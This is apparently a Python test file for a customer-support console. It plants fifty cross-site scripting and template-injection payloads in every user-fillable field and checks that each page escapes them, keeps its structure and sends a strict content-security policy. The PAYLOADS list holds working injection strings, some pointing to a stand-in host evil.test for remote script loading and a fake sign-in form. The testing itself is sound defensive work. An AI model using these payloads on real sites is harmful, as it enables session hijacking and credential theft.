"""Whatever a customer writes is text: with each of 50 hostile texts in every place that a customer, the directory or a
provider can fill, the console's pages are made of exactly the elements that they have with a harmless word there."""

from typing import Any

import httpx
from markupsafe import escape
from sqlalchemy import Connection, Table, select, update

from bots.console.pages import STATIC
from core.accounts import Role
from core.backends.ledger import schema
from core.messages import Attachment, Raw
from tests.console.office import Office, Outline

HARMLESS = "harmless"
PAGES = ("/console", "/console/cases/1", "/console/cases/2", "/console/status", "/console/accounts", "/console/audit")
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image href=1 onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<style>@import '//evil.test/x.css';</style>",
    "<form action=//evil.test><input name=password><button>Sign in</button></form>",
    "<button formaction=//evil.test form=x>Send</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<div style=background:url(//evil.test/x)>",
    "<template><script>alert(1)</script></template>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "</bdi></th></table><h1>Signed out</h1>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)//",
    "{{ 7 * 7 }}{% for x in [1] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}<%= 7 * 7 %>${7*7}",
    "\u202e<script>alert(1)</script>\u2066",
    "＜script＞alert(1)＜/script＞\x00<b>",
]


def anatomy(page: str) -> list[tuple[str, dict[str, str | None]]]:
    """What a page is made of, but for the fields' values, the labels, the order of accounts, which is by name, and what
    changes with every reading."""
    told = {"value", "aria-label", "class", "data-state"}
    return [
        (tag, {n: v for n, v in given.items() if n not in told and not str(v).startswith("/console/accounts/")})
        for tag, given in Outline(page).elements
    ]


def plant(tx: Connection, text: str) -> None:
    """Puts a text into every place that is not ours alone."""
    everywhere: list[tuple[Table, dict[str, Any]]] = [
        (schema.handles, {"display_name": text, "address": text, "hint": text}),
        (schema.directory, {"name": text, "email": text, "phone": text, "plan": text}),
        (schema.messages, {"text": text}),
        (schema.facts, {"value": text}),
        (schema.cases, {"reason": text, "assignee": text}),
        (schema.outbox, {"text": text, "error": text}),
        (schema.parked, {"reason": text, "body": text.encode()}),
        (schema.patterns, {"issue": text, "resolution": text}),
        (schema.audit, {"who": text, "about": text}),
    ]
    tx.execute(update(schema.accounts).where(schema.accounts.c.id == 1).values(name=text))
    tx.execute(update(schema.cases).where(schema.cases.c.status == "resolved").values(resolution=text))
    for table, values in everywhere:
        tx.execute(update(table).values(**values))
    for row in tx.execute(select(schema.messages.c.id, schema.messages.c.body)).all():
        files = [file | {"name": text, "media_type": text} for file in row.body["attachments"]]
        body = row.body | {"attachments": files}
        tx.execute(update(schema.messages).where(schema.messages.c.id == row.id).values(body=body))


async def busy(office: Office) -> httpx.AsyncClient:
    """A customer with a file, a told slot of each kind, an earlier case, and an answer that was refused."""
    shop = office.shop
    await shop.knows("cus_7", "Ann Keller", "email:ann@shop.test", plan="Pro", value=12_500)
    await shop.hears("email", "ann@shop.test", "I was charged $99 twice for order W4829137. I checked the invoice.")
    browser = await office.signed_in()
    await browser.post("/console/cases/1/resolve", data={"resolution": "Refunded the second charge"})
    shop.later(days=1)
    file = Attachment(name="invoice.pdf", media_type="application/pdf", size=10)
    await shop.hears("email", "ann@shop.test", "I prefer email. I want to speak to a human!", attachments=(file,))
    office.channels["email"].refuses = "550 no such mailbox"
    await browser.post("/console/cases/2/reply", data={"reply": "Hello Ann"})
    await office.delivered()
    await shop.ledger.park("email", Raw(body=b"nothing like a mail", received_at=shop.now), "two senders")
    return await office.colleague("ada", Role.ADMIN)


async def pages(
    office: Office, browser: httpx.AsyncClient, stranger: httpx.AsyncClient, text: str
) -> list[httpx.Response]:
    """Every page with a text planted in it, and those on which somebody typed it, signed in or not."""
    await office.shop.ledger._database.write(lambda tx: plant(tx, text))
    read = [await browser.get(path) for path in PAGES]
    typed = {"reply": text, "resolution": text, "name": f"{text}!", "role": text, "password": text}
    read += [await browser.post(path, data=typed) for path in ("/console/accounts", "/console/cases/2/reply")]
    read += [await stranger.post("/console/login", data=typed)]
    return read


async def test_hostile_text_is_text_on_every_page(office: Office) -> None:
    assert len(PAYLOADS) == 50
    browser, stranger = await busy(office), office.browser()
    usual = [anatomy(page.text) for page in await pages(office, browser, stranger, HARMLESS)]
    for text in PAYLOADS:
        for page, made_of in zip(await pages(office, browser, stranger, text), usual, strict=True):
            assert anatomy(page.text) == made_of, (page.url, text)
            assert str(escape(text)) in page.text.replace("\r\n", "\n") or page.url.path == "/console", (page.url, text)
            assert "script-src 'self'" in page.headers["content-security-policy"]


async def test_no_page_has_a_script_or_a_style_of_its_own(office: Office) -> None:
    browser = await busy(office)
    for page in await pages(office, browser, office.browser(), HARMLESS):
        elements = Outline(page.text).elements
        scripts = [given for tag, given in elements if tag == "script"]
        assert all(set(given) <= {"src", "defer"} for given in scripts), page.url
        assert {given["src"] for given in scripts} <= {f"/console/static/{name}" for name in STATIC}, page.url
        assert not [tag for tag, _ in elements if tag == "style"]
        assert not [given for _, given in elements if any(name.startswith("on") or name == "style" for name in given)]
